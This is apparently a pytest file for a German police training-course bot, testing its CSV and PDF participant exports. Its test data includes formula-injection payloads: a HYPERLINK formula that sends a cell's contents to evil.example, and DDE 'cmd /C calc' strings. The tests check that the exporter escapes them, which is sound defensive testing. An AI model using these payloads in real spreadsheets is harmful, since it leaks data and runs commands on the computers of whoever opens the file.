"""The participant files a training office opens and files: CSV for Excel, PDF to print."""

from __future__ import annotations

import ast
import csv
import io
import re
import shutil
import struct
import subprocess
import zlib
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from pypdf import PdfReader

from bot.i18n import texts
from bot.render_admin import list_labels
from kurse import exports, people
from kurse import registrations as regs
from kurse.clock import BERLIN
from kurse.models import Course, Person, RegistrationStatus
from kurse.registrations import Participant, ParticipantList, participants
from tests import builders
from tests.harness import user

ROOT = Path(__file__).resolve().parent.parent
BOSS = 4242  # bootstrap admin (KURSBOT_ADMIN_IDS)
PRINTED = datetime(2027, 3, 1, 14, 5, tzinfo=BERLIN)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klick")',
    "+49 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
NAMES = ["Łukasz Wójcik", "Çağrı Yılmaz", "Jiří Dvořák", "Иван Петров", "Jürgen Müller"]


@pytest.fixture
def boss():
    return {"id": BOSS, "is_bot": False, "first_name": "Chefin", "language_code": "de"}


AGENCY_NAMES = {"PD-Z": "Polizeidirektion Zwickau", "PP-OFR": "Polizeipräsidium Oberfranken"}


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def flat(text: str) -> str:
    """The text with every run of white space (line breaks of wrapped cells) as one space."""
    return re.sub(r"\s+", " ", text)


def a_course(start: datetime, end: datetime, **extra) -> Course:
    values = {
        "id": 5,
        "code": "K-2027-005",
        "title": "Grenzüberschreitende Fahndung – Grundlagen",
        "location": "Hof, Polizeiinspektion",
        "start_at": start,
        "end_at": end,
        "registration_deadline": start - timedelta(days=7),
        "cancellation_deadline": start - timedelta(days=7),
        "created_at": start - timedelta(days=60),
        "updated_at": start - timedelta(days=60),
    }
    values.update(extra)
    return Course(**values)


TWO_DAYS = (datetime(2027, 3, 12, 9, tzinfo=BERLIN), datetime(2027, 3, 13, 16, tzinfo=BERLIN))
THREE_DAYS = (datetime(2027, 3, 29, 8, tzinfo=BERLIN), datetime(2027, 3, 31, 15, tzinfo=BERLIN))


def listing(course: Course, people: dict[str, list[str]], waiting=()) -> ParticipantList:
    """A participant list as `participants` returns it: names by agency code."""
    signed_up = course.start_at - timedelta(days=20)
    confirmed = {
        code: [
            Participant(
                i, i, name, "POK", code, RegistrationStatus.CONFIRMED, None, signed_up, False
            )
            for i, name in enumerate(names, start=100 * (n + 1))
        ]
        for n, (code, names) in enumerate(sorted(people.items()))
    }
    queue = [
        Participant(
            900 + i,
            900 + i,
            name,
            "PM",
            "PD-Z",
            RegistrationStatus.WAITING,
            i + 1,
            signed_up,
            False,
        )
        for i, name in enumerate(waiting)
    ]
    return ParticipantList(course, confirmed, queue, dict(AGENCY_NAMES))


def attendance_list(the_listing: ParticipantList, language: str = "de") -> bytes:
    lead = Person(name="Lea Leitung", telegram_id=1, agency_id=1, language="de")
    labels = list_labels(texts(language), the_listing.course, lead, PRINTED)
    return exports.participants_pdf(the_listing, labels, PRINTED)


# The listing ---------------------------------------------------------------------------------


async def test_the_participant_list_carries_the_full_names_of_the_courses_agencies(
    db, clock, agencies
):
    course = builders.course(db, clock.now(), {"PP-OFR": 3, "PD-Z": 0})
    person = builders.officer(db, agencies["PP-OFR"], clock.now())

    db.call(regs.sign_up, course.id, person.id, clock.now())

    the_listing = db.call(participants, course.id, clock.now())

    assert the_listing.agency_names == {"PP-OFR": "Polizeipräsidium Oberfranken"}


# CSV ---------------------------------------------------------------------------------------


async def test_names_that_excel_would_run_as_formulas_reach_the_csv_as_text(
    h, db, clock, boss, agencies
):
    course = builders.course(db, clock.now(), {"PP-OFR": 10, "PD-Z": 10})
    for i, name in enumerate([*FORMULAS, "Anna-Lena Groß"]):
        who = user(f"Person{i}")
        await h.join(who, agencies["PP-OFR"].access_code, name, rank="+POK" if i == 0 else "POK")
        person = db.call(people.find_by_telegram_id, who["id"])
        db.call(regs.sign_up, course.id, person.id, clock.now())

    await h.send(boss, f"/teilnehmer {course.code}")
    await h.press(boss, "CSV-Datei")

    rows = read_csv(h.api.messages(BOSS)[-1].document[1])
    assert [r[2] for r in rows[1:]] == [*("'" + f for f in FORMULAS), "Anna-Lena Groß"]
    assert rows[1][1] == "'+POK" and rows[2][1] == "POK"


def test_every_csv_cell_starting_with_a_formula_character_or_tab_or_return_gets_a_quote():
    course = a_course(*TWO_DAYS)
    hostile = ["\t=1+1", "\r=1+1", "=1+1", "+1", "-1", "@A1", " =1+1"]
    rows_in = {"PP-OFR": hostile}
    the_listing = listing(course, rows_in)
    labels = list_labels(texts("de"), course, None)

    rows = read_csv(exports.participants_csv(the_listing, labels))

    assert [r[2] for r in rows[1:]] == ["'" + name for name in hostile]
    assert all(not cell or cell[0] not in "=+-@\t\r" for row in rows for cell in row)


def test_every_csv_the_project_writes_goes_through_the_one_safe_writer():
    writers = []
    for path in [*(ROOT / "kurse").rglob("*.py"), *(ROOT / "bot").rglob("*.py")]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        within = {}  # node -> the innermost function around it
        for function in ast.walk(tree):
            if isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef):
                within.update({node: function.name for node in ast.walk(function)})
        writers += [
            f"{path.relative_to(ROOT)}:{within.get(node, '<module>')}"
            for node in ast.walk(tree)
            if isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ]

    assert writers == ["kurse/exports.py:spreadsheet_csv"]
